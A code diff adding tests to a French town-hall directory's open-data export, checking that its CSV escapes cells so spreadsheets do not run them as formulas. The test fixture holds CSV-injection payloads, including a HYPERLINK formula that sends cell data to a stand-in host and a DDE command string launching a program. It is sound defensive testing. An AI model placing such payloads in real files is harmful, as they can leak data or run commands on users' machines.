@@ -60,7 +60,8 @@ describe('the open directory files', () => {
     expect(header).toEqual(OPEN_DATA_COLUMNS.map(([name]) => name));
     const abergement = rows.find((r) => r.page.endsWith('/mairie/mairie-de-l-abergement-clemenciat'));
     expect(abergement).toMatchObject({
-      telephone: '+33474240308',
+      // Text in a spreadsheet, not a formula (the spreadsheet test below).
+      telephone: "'+33474240308",
       telephone_source: 'directory',
       telephone_date: '2025-03-04',
       email: 'mairie.abergement@example.fr',
@@ -132,5 +133,59 @@ describe('the open directory files', () => {
     expect(
       (await openDataFiles(toSiteData(fixtureRaw(), new Date('2026-01-01T00:00:00Z')), URL_, 'Passeport Mairies')).csv,
     ).toBe((await openDataFiles(toSiteData(fixtureRaw(), FIXTURE_NOW), URL_, 'Passeport Mairies')).csv);
+  });
+});
+
+describe('the open CSV in a spreadsheet', () => {
+  // Directory text as any of thousands of administrations could write it, and a town hall west of Greenwich.
+  const HOSTILE = {
+    nom: '=HYPERLINK("https://evil.example/?"&A2,"Plan")',
+    ligne_2: '+33 rue; -1 bis;@SUM(1+1)',
+    ligne_3: '\tTab',
+    ville: '@Ville',
+    access_text: 'Entrée;=HYPERLINK("https://evil.example/","Plan d\'accès"); ;  +cmd|\' /C calc\'!A0',
+    rendez_vous: '-2+3',
+  };
+  const raw = fixtureRaw();
+  raw.mairies = raw.mairies.map((m) => (m.id === 1 ? { ...m, ...HOSTILE, longitude: -1.55 } : m));
+  const site = toSiteData(raw, FIXTURE_NOW);
+  let csv = '';
+  let geojson = '';
+  beforeAll(async () => {
+    csv = await new Response(openDataStream(site, URL_, 'csv')).text();
+    geojson = await new Response(openDataStream(site, URL_, 'geojson')).text();
+  });
+  const FORMULA = /^[ "]*[=+\-@\t\r]/;
+
+  it('split on commas (RFC 4180): no text cell starts a formula, numbers stay numbers', () => {
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    const row = rows.find((r) => r.id === '1');
+    expect(row).toMatchObject({
+      nom: `'${HOSTILE.nom}`,
+      adresse_ligne_1: "'+33 rue; '-1 bis;'@SUM(1+1)",
+      adresse_ligne_2: "'\tTab",
+      commune: "'@Ville",
+      longitude: '-1.55',
+      telephone: "'+33474240308",
+    });
+    for (const r of rows)
+      for (const [column, cell] of Object.entries(r))
+        if (column !== 'longitude' && column !== 'latitude') expect(cell, column).not.toMatch(FORMULA);
+  });
+
+  it('split on semicolons as a French spreadsheet does, inside quotes too: no part starts a formula', () => {
+    const parts = csv.split(/\r\n/).flatMap((line) => line.split(';').slice(1));
+    expect(parts.length).toBeGreaterThan(4);
+    for (const part of parts) expect(part).not.toMatch(FORMULA);
+  });
+
+  it('leaves the GeoJSON as the data says', () => {
+    const feature = (
+      JSON.parse(geojson) as {
+        features: { properties: Record<string, unknown>; geometry: { coordinates: number[] } }[];
+      }
+    ).features.find((f) => f.properties.id === 1);
+    expect(feature?.properties).toMatchObject({ nom: HOSTILE.nom, acces_texte: HOSTILE.access_text });
+    expect(feature?.geometry.coordinates[0]).toBe(-1.55);
   });
 });
